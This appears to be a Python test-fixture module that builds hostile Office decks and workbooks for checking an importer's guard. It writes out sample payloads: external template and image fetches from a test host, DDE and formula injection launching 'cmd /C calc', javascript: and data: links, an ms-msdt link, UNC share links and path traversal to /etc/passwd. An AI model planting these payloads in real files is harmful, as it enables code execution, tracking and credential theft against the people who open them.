"""Files that fetch something, or that lead where nothing should."""

from importers.hostile_making import BOOK, SHEET, SLIDE, changed, hostile, with_part
from inspection.breaking import Parts
from workshop_kit.importers.guard import Kind


def outward(kind: Kind, part: str, relation: str, target: str) -> bytes:
    """Return a file with a relation that leads outside."""
    return changed(kind, lambda parts: parts.relate(part, "out", relation, target, "External"))


def linked(target: str) -> bytes:
    """Return a deck with a link to click on."""
    return outward("deck", SLIDE, "hyperlink", target)


@hostile("deck", "fetches “http://192.0.2.1/track.png” from outside", removable=True)
def picture_that_calls_home() -> bytes:
    return outward("deck", SLIDE, "image", "http://192.0.2.1/track.png")


@hostile("deck", "fetches “http://192.0.2.1/evil.potm” from outside", removable=True)
def template_from_outside() -> bytes:
    return outward("deck", "ppt/presentation.xml", "attachedTemplate", "http://192.0.2.1/evil.potm")


@hostile("deck", "fetches “file:///\\\\192.0.2.1\\share\\film.mp4” from outside", removable=True)
def film_on_a_share() -> bytes:
    return outward("deck", SLIDE, "video", r"file:///\\192.0.2.1\share\film.mp4")


@hostile("workbook", "fetches “https://192.0.2.1/evil.xlsx” from outside", removable=True)
def link_to_another_workbook() -> bytes:
    def link(parts: Parts) -> None:
        name = "xl/externalLinks/externalLink1.xml"
        parts.contents[name] = b"<externalLink/>"
        parts.relate(name, "e", "externalLinkPath", "https://192.0.2.1/evil.xlsx", "External")

    return changed("workbook", link)


@hostile("workbook", "takes its values from another program", removable=True)
def values_of_another_program() -> bytes:
    link = b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    return with_part("workbook", "xl/externalLinks/externalLink1.xml", link)


@hostile("workbook", "has a formula that starts a program: cmd|'/C calc'!A0", removable=True)
def formula_that_starts_a_program() -> bytes:
    formula = '<row r="9"><c r="A9"><f>cmd|&#39;/C calc&#39;!A0</f></c></row></sheetData>'
    return changed("workbook", lambda parts: parts.swap(SHEET, "</sheetData>", formula))


@hostile("workbook", "leads to a data connection", removable=True)
def data_connection() -> bytes:
    return changed(
        "workbook", lambda parts: parts.relate(BOOK, "c", "connections", "connections.xml")
    )


@hostile("deck", "has a link to “javascript:alert(1)”", removable=True)
def link_that_is_a_script() -> bytes:
    return linked("javascript:alert(1)")


@hostile("deck", "has a link to “java\ufffdscript:alert(1)”", removable=True)
def link_that_hides_a_script() -> bytes:
    return linked("java&#9;script:alert(1)")


@hostile("deck", "has a link to “file:///C:/Windows/System32/calc.exe”", removable=True)
def link_to_a_program() -> bytes:
    return linked("file:///C:/Windows/System32/calc.exe")


@hostile("workbook", "has a link to “\\\\192.0.2.1\\share”", removable=True)
def link_to_a_share() -> bytes:
    return outward("workbook", SHEET, "hyperlink", r"\\192.0.2.1\share")


@hostile("deck", "has a link to “data:text/html,<script>”", removable=True)
def link_that_is_a_page() -> bytes:
    return linked("data:text/html,&lt;script>")


@hostile("deck", "has a link to “ms-msdt:/id PCWDiagnostic”", removable=True)
def link_to_a_tool() -> bytes:
    return linked("ms-msdt:/id PCWDiagnostic")


@hostile("workbook", "leads to “../../../../etc/passwd”, outside the file")
def part_outside_the_file() -> bytes:
    return changed(
        "workbook", lambda parts: parts.relate(BOOK, "p", "worksheet", "../../../../etc/passwd")
    )


@hostile("workbook", "leads to “file:///etc/passwd”, outside the file")
def address_as_a_part() -> bytes:
    return changed(
        "workbook", lambda parts: parts.relate(BOOK, "p", "worksheet", "file:///etc/passwd")
    )
